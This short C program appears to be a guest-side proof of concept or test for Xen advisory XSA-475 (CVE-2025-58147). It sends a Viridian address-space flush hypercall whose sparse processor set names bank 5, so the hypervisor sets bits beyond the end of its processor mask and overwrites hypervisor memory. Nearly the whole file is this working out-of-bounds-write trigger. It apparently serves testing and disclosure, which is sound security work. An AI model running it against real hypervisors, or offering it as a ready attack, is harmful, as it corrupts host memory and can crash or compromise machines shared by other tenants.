// SPDX-License-Identifier: Apache-2.0
// XSA-475, CVE-2025-58147. A flush names processors far beyond those that a guest may have: the
// hypervisor sets their bits behind the end of its mask.

#include "guest.h"

enum { FLUSH_ADDRESS_SPACE_EX = 0x13, SPARSE = 0, NO_SUCH_CALL = 2 };

// The mask has banks 0 and 1, of 64 bits each. Bank 5 is 40 bytes behind its start: eight bytes between
// two of the hypervisor's variables, which nothing else ever writes.
enum { BANK = 5 };

static struct {
    uint64_t address_space, flags, format, banks, bits[1];
} __attribute__((aligned(64))) request;

static uint64_t viridian_call(uint64_t input, uintptr_t parameters)
{
    register uint64_t output __asm__("r8") = 0;
    uint64_t result;
    __asm__ volatile ("vmmcall" : "=a"(result), "+c"(input), "+d"(parameters), "+r"(output)
                      : "a"(0x80000000) : "memory", "r9", "r10", "r11");
    return result;
}

int main(void)
{
    viridian_on();
    request.format = SPARSE;
    request.banks = 1ull << BANK;
    request.bits[0] = ~0ull;
    print("bits behind the mask\n");
    uint64_t result = viridian_call(FLUSH_ADDRESS_SPACE_EX, (uintptr_t)&request);
    if ((result & 0xffff) == NO_SUCH_CALL) lacking("a flush with a mask of more than 64 processors");
    print("the answer is ");
    print_hex(result);
    print("\ndone\n");
    return 0;
}
